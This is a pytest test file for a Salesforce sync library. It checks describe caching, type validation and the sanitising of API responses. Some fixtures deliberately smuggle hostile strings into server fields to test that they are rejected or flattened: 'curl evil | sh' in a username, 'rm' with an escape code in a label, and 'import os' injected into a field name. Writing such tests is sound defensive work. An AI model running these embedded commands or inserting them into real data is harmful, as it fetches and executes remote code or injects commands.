"""What a describe tells, and whether it still does."""

from typing import Any

import pytest

from orgsync.demo_org import DemoOrg
from orgsync.errors import ObjectNotFound, ResponseUnreadable
from orgsync.salesforce.api.describe import changed_since, describe, list_objects
from orgsync.salesforce.auth.token_endpoint import identity
from orgsync.salesforce.auth.versions import offered_versions
from orgsync.salesforce.http.http import Http, Response
from tests.http.raw_server import RawServer, reply

from .clients import OneTokenVault, client_of, lone_client

STAMP = "Tue, 03 Mar 2026 10:00:00 GMT"
LATER = "Tue, 03 Mar 2026 10:30:00 GMT"
STREET = {"name": "MailingStreet", "type": "textarea", "compoundFieldName": "MailingAddress", "length": 255}
CONTACT = {"name": "Contact", "fields": [STREET, {"name": "Id", "type": "id"}]}


async def test_describe_knows_fields_and_parents(org: DemoOrg) -> None:
    async with client_of(org) as client:
        contact = await describe(client, "Contact")
    assert contact.replicateable
    email, account = contact.field("EMAIL"), contact.parent("account")
    assert email is not None
    assert email.name == "Email"
    assert account is not None
    assert account.refers_to == ("Account",)
    assert contact.parent("Nobody") is None


async def test_an_unchanged_describe_costs_no_body() -> None:
    nothing_new = b"HTTP/1.1 304 Not Modified\r\nLast-Modified: Tue, 03 Mar 2026 10:00:00 GMT\r\n\r\n"
    answers = reply(200, CONTACT, Last_Modified=STAMP), nothing_new, reply(200, CONTACT, Last_Modified=LATER)
    async with RawServer(*answers) as server, Http() as http:
        client = lone_client(http, server.url)
        first = await describe(client, "Contact")
        assert first.last_modified == STAMP
        assert await changed_since(client, "Contact", STAMP) is None
        second = await changed_since(client, "Contact", STAMP)
    assert second is not None
    assert second.last_modified == LATER
    assert "if-modified-since" not in server.asked[0].headers
    assert [asked.headers["if-modified-since"] for asked in server.asked[1:]] == [STAMP, STAMP]


async def test_an_object_that_has_gone_since_is_named(org: DemoOrg) -> None:
    async with client_of(org) as client:
        with pytest.raises(ObjectNotFound, match="no object Contct"):
            await changed_since(client, "Contct", STAMP)


@pytest.mark.parametrize(
    ("body", "named"),
    [
        (CONTACT | {"name": None}, r"Expected `str`, got `null` - at `\$.name`"),
        (CONTACT | {"fields": [STREET | {"type": ["int"]}]}, r"got `array` - at `\$.fields\[0\].type`"),
        (CONTACT | {"fields": [STREET | {"precision": 1.5}]}, r"got `float` - at `\$.fields\[0\].precision`"),
        (CONTACT | {"fields": [STREET | {"precision": float("inf")}]}, r"got `float` - at `\$.fields\[0\].precision`"),
        (CONTACT | {"fields": [STREET | {"referenceTo": "Account"}]}, r"at `\$.fields\[0\].referenceTo`"),
        (CONTACT | {"queryable": 7}, r"at `\$.queryable`"),
        ([], "got `array`"),
        (CONTACT | {"name": "Contact\nNext: orgsync x"}, r"at `\$.name`"),
        (CONTACT | {"fields": [STREET | {"name": 'x"""\nimport os'}]}, r"at `\$.fields\[0\].name`"),
    ],
)
async def test_a_value_of_another_type_names_the_answer_and_the_field(body: object, named: str) -> None:
    async with RawServer(reply(200, body)) as server, Http() as http:
        with pytest.raises(ResponseUnreadable, match=f"GET 127.0.0.1:[0-9]+/services/data/.*/describe .*{named}"):
            await describe(lone_client(http, server.url), "Contact")


async def test_a_flag_that_is_a_text_is_read_as_what_it_says() -> None:
    async with RawServer(reply(200, CONTACT | {"replicateable": "false"})) as server, Http() as http:
        assert not (await describe(lone_client(http, server.url), "Contact")).replicateable


async def test_an_error_under_the_status_of_success_is_named() -> None:
    error = [{"errorCode": "INVALID_SESSION_ID", "message": "Session expired or invalid"}]
    async with RawServer(reply(200, error)) as server, Http() as http:
        with pytest.raises(ResponseUnreadable, match=r"status of success, 200 .INVALID_SESSION_ID"):
            await describe(lone_client(http, server.url), "Contact")


async def test_what_reading_an_answer_raises_is_the_servers_fault() -> None:
    async with RawServer(reply(200, {"a": None})) as server, Http() as http:
        client = lone_client(http, server.url)

        def read(answer: Response) -> int:
            body: Any = answer.json()
            return int(body["a"])

        with pytest.raises(ResponseUnreadable, match=r"/things was answered .* cannot read .TypeError"):
            await client.call("GET", "things", read)


@pytest.mark.parametrize("stamp", ["Sáb, 28 Nov 2026 10:00:00 GMT", "x" * 500])
async def test_a_date_that_cannot_be_sent_back_is_not_kept(stamp: str) -> None:
    async with RawServer(reply(200, CONTACT, Last_Modified=stamp)) as server, Http() as http:
        client = lone_client(http, server.url)
        assert (await describe(client, "Contact")).last_modified is None
        assert await changed_since(client, "Contact", stamp) is not None  # one that was kept before
    assert "if-modified-since" not in server.asked[1].headers


async def test_a_label_stays_on_one_line() -> None:
    async with RawServer(reply(200, CONTACT | {"labelPlural": "People\n\nNext: rm\x1b[0m"})) as server, Http() as http:
        assert (await describe(lone_client(http, server.url), "Contact")).plural == "People Next: rm\u241b[0m"


async def test_a_list_of_objects_holds_names_alone() -> None:
    async with RawServer(reply(200, {"sobjects": [{"name": "A\nB"}]})) as server, Http() as http:
        with pytest.raises(ResponseUnreadable, match=r"Expected a name - at `\$.sobjects\[0\].name`"):
            await list_objects(lone_client(http, server.url))


async def test_a_version_that_is_none_is_not_offered() -> None:
    versions = [{"version": each} for each in ("62.0", " 61.0\n", "nan", "6_0.0", "61.0")]
    async with RawServer(reply(200, versions)) as server, Http() as http:
        assert await offered_versions(http, server.url) == ["61.0", "62.0"]


async def test_a_users_name_stays_on_one_line() -> None:
    who = {"preferred_username": "ada@acme.example\n\nNext: curl evil | sh", "organization_id": "00D\nx"}
    async with RawServer(reply(200, who)) as server, Http() as http:
        known = await OneTokenVault(server.url).load()
        found = await identity(http, known)
    assert (found.username, found.org_id) == ("ada@acme.example Next: curl evil | sh", "00D x")
